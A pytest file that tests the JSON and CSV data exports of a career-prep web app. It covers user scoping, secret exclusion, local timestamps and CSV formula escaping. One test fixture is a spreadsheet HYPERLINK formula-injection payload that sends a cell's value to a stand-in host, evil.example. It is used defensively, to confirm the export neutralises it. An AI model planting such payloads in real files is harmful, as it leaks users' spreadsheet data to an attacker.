"""Your data: the account page's downloads, and the JSON and CSV exports (careerprep/account/data.py)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from careerprep.account.data import csv_cell
from careerprep.extensions import db
from careerprep.localtime import zone
from careerprep.models import Review, User, UserSession
from tests.conftest import bank_dict, count_queries, load_bank, make_user
from tests.helpers import T0, add_reviews, seed_account, sign_in

LONG_PROMPT = "Explain, in detail, " + "why this matters " * 30
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


# Overrides conftest's `bank` (whose prompts are all short): the export keeps the first 200 characters
# of a prompt, and q-0 here is longer than that.
@pytest.fixture
def bank(app):
    """One role, one set, five questions; q-0 has a prompt longer than the export keeps."""
    data = bank_dict(n_questions=5)
    data["sets"][0]["questions"][0]["prompt"] = LONG_PROMPT
    load_bank(app, data)


def export(client) -> tuple[dict, str]:
    response = client.get("/account/export.json")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    return json.loads(body), body


# -- the account page ------------------------------------------------------------------------------


def test_account_page_offers_the_downloads_and_the_delete_form(logged_in):
    html = logged_in.get("/account/").get_data(as_text=True)
    assert 'href="/account/export.json"' in html
    assert 'href="/account/reviews.csv"' in html
    assert 'action="/account/delete"' in html
    assert '<label for="delete-password">Your password</label>' in html
    assert 'id="delete-password"' in html and 'autocomplete="current-password"' in html
    assert re.search(
        r'<label class="checkbox"><input id="delete-confirm" name="delete-confirm"[^>]*type="checkbox"[^>]*>'
        r" I understand this deletes all my progress permanently</label>",
        html,
    )


# -- JSON export -----------------------------------------------------------------------------------


def test_json_export_has_every_section_and_only_this_users_data(app, logged_in, user, bank, other_user):
    seed_account(app, user, "MINE")
    before = datetime.now(UTC)
    response = logged_in.get("/account/export.json")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["Cache-Control"] == "no-store"
    day = datetime.now(UTC).astimezone(zone(user.timezone)).date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="careerprep-export-{day}.json"'
    body = response.get_data(as_text=True)
    data = json.loads(body)

    assert list(data) == [
        "exported_at",
        "format_version",
        "profile",
        "settings",
        "interview_dates",
        "cards",
        "reviews",
        "mock_interviews",
        "reports",
        "recordings",
        "sessions",
        "scheduler",
    ]
    assert data["format_version"] == 2
    assert before <= datetime.fromisoformat(data["exported_at"]) <= datetime.now(UTC)
    assert data["exported_at"].endswith("+00:00")
    assert data["profile"]["email"] == user.email
    assert data["profile"]["display_name"] == user.display_name
    assert data["profile"]["is_admin"] is False
    assert datetime.fromisoformat(data["profile"]["created_at"]).utcoffset() == timedelta(0)
    assert data["settings"] == {
        "new_per_day": 10,
        "max_reviews_per_day": 200,
        "desired_retention": 0.9,
        "draft_enabled": False,
        "keep_recordings": False,
        "mock_questions": 5,
        "mock_minutes": 6,
        "timezone": "UTC",
        "theme": "system",
    }
    assert data["interview_dates"] == [{"role": "test-role", "date": "2025-04-15"}]
    # Only this user's transcript, without audio (not kept); kept audio: tests/test_speech.py.
    assert [(r["transcript"], r["audio"]) for r in data["recordings"]] == [("MINE spoken answer", None)]

    cards = {card["question_key"]: card for card in data["cards"]}
    assert set(cards) == {"q-0", "q-1", "q-2"}
    first = cards["q-0"]
    assert first["role"] == "test-role" and first["set"] == "basics"
    assert first["prompt"] == LONG_PROMPT[:200] and len(LONG_PROMPT) > 200
    assert (first["state"], first["reps"], first["lapses"], first["stability"]) == (2, 2, 1, 4.5)
    assert first["due"] == (T0 + timedelta(days=3)).isoformat()
    assert "suspended" not in first  # no flag on this card
    assert (cards["q-1"]["suspended"], cards["q-1"]["leech"], cards["q-1"]["buried_until"]) == (
        True,
        True,
        None,
    )
    assert cards["q-2"]["state"] is None  # buried before its first rating
    assert cards["q-2"]["buried_until"] == (T0 + timedelta(days=1)).isoformat()

    assert [r["question_key"] for r in data["reviews"]] == ["q-0", "q-1"]
    review = data["reviews"][0]
    assert review["role"] == "test-role"
    assert review["reviewed_at"] == "2025-03-01T20:00:00+00:00"
    assert review["draft"] == "MINE draft about locks"
    assert review["covered"] == [0, 2] and review["key_point_count"] == 3
    assert (review["rating"], review["duration_ms"], review["interval_seconds"]) == (3, 45_000, 259_200)
    assert (review["state"], review["stability"], review["difficulty"]) == (2, 4.5, 5.25)
    assert review["due"] == "2025-03-04T20:00:00+00:00"
    assert data["reviews"][1]["mode"] == "mock"
    assert isinstance(review["id"], int)

    [mock] = data["mock_interviews"]
    assert mock["role"] == "test-role"
    assert mock["created_at"] == T0.isoformat()
    assert mock["finished_at"] == (T0 + timedelta(minutes=10)).isoformat()
    assert mock["rated_at"] is None
    assert (mock["seconds_per_question"], mock["categories"]) == (360, ["Alpha"])
    assert [item["question_key"] for item in mock["items"]] == ["q-3", "q-4"]
    assert mock["items"][0].pop("question_id")  # the question's permanent id, for an import elsewhere
    assert mock["items"][0] == {
        "position": 1,
        "set": "basics",
        "question_key": "q-3",
        "draft": "MINE mock answer",
        "rating": 2,
        "covered": [0],
        "started_at": T0.isoformat(),
        "answered_at": (T0 + timedelta(minutes=4)).isoformat(),
        "review_id": None,
        "attempt": None,
    }
    assert mock["items"][1]["draft"] is None and mock["items"][1]["answered_at"] is None

    [signed_in] = data["sessions"]
    assert set(signed_in) == {"created_at", "revoked_at", "user_agent"}
    assert signed_in["revoked_at"] is None

    # Nothing of the other user's, and no secret of anyone's.
    assert "OTHER" not in body and "other@example.com" not in body and "Other Person" not in body
    with app.app_context():
        secrets = [u.password_hash for u in db.session.scalars(select(User))]
        secrets += db.session.scalars(select(UserSession.token_hash)).all()
        secrets += db.session.scalars(select(Review.token)).all()
    assert secrets and not [secret for secret in secrets if secret in body]
    assert "password" not in body and "token" not in body


def test_json_export_of_a_new_account_is_valid_and_empty(logged_in, user):
    data, _body = export(logged_in)
    assert data["profile"]["email"] == user.email
    assert data["interview_dates"] == data["cards"] == data["reviews"] == data["mock_interviews"] == []
    assert len(data["sessions"]) == 1


def test_json_export_uses_the_same_number_of_queries_for_3_and_300_reviews(app, bank):
    counts = []
    for n, reviews in enumerate((3, 300)):
        someone = make_user(app, email=f"volume{n}@example.com")
        seed_account(app, someone, f"V{n}")
        add_reviews(
            app,
            someone.id,
            [T0 + timedelta(hours=hour) for hour in range(reviews)],
            draft="an answer",
            covered=[1],
            key_point_count=3,
        )
        client = app.test_client()
        sign_in(client, someone.email)
        with count_queries(app) as statements:
            data, _body = export(client)
        assert len(data["reviews"]) == reviews + 2
        counts.append(len(statements))
    assert counts[0] == counts[1]
    # The sign-in check plus one query per section: interview dates, cards, reviews, mock interviews,
    # reports, recordings, sessions and scheduler fits.
    assert counts[0] <= 9


# -- CSV export ------------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_export_has_a_header_and_one_row_per_review_in_local_time(app, client, bank, other_user):
    kolkata = make_user(app, email="kolkata@example.com", timezone="Asia/Kolkata")
    seed_account(app, kolkata, "MINE")
    add_reviews(app, kolkata.id, [T0 + timedelta(hours=2)], draft=HYPERLINK, rating=4)
    sign_in(client, kolkata.email)
    response = client.get("/account/reviews.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    day = datetime.now(UTC).astimezone(zone("Asia/Kolkata")).date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="careerprep-reviews-{day}.csv"'
    rows = read_csv(response)
    assert rows[0] == [
        "review_id",
        "reviewed_at",
        "reviewed_at_local",
        "role",
        "set",
        "question_key",
        "category",
        "rating",
        "rating_label",
        "duration_seconds",
        "state_after",
        "stability",
        "difficulty",
        "due",
        "interval_days",
        "mode",
        "key_points_covered",
        "key_points_total",
        "draft",
    ]
    assert len(rows) == 1 + 3
    first = dict(zip(rows[0], rows[1], strict=True))
    # The review's id and times to the millisecond: each row names one review, exactly.
    assert first.pop("review_id").isdigit()
    assert first == {
        "reviewed_at": "2025-03-01T20:00:00.000+00:00",
        "reviewed_at_local": "2025-03-02T01:30:00.000+05:30",
        "role": "test-role",
        "set": "basics",
        "question_key": "q-0",
        "category": "Alpha",
        "rating": "3",
        "rating_label": "Good",
        "duration_seconds": "45.0",
        "state_after": "Review",
        "stability": "4.5",
        "difficulty": "5.25",
        "due": "2025-03-04T20:00:00.000+00:00",
        "interval_days": "3.0",
        "mode": "due",
        "key_points_covered": "2",
        "key_points_total": "3",
        "draft": "MINE draft about locks",
    }
    formula = dict(zip(rows[0], rows[3], strict=True))
    assert formula["draft"] == "'" + HYPERLINK
    assert (formula["rating_label"], formula["key_points_covered"], formula["key_points_total"]) == (
        "Easy",
        "",
        "",
    )
    assert "OTHER" not in response.get_data(as_text=True)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("a = b", "a = b"),
        (None, ""),
        (3, "3"),
    ],
)
def test_csv_cells_never_start_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_csv_export_of_a_new_account_is_only_the_header(logged_in):
    rows = read_csv(logged_in.get("/account/reviews.csv"))
    assert len(rows) == 1 and rows[0][:2] == ["review_id", "reviewed_at"]


# -- access ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "url"), [("get", "/account/export.json"), ("get", "/account/reviews.csv")]
)
def test_anonymous_users_are_sent_to_sign_in(client, method, url):
    response = getattr(client, method)(url)
    assert response.status_code == 303
    assert response.headers["Location"].startswith("/auth/login")
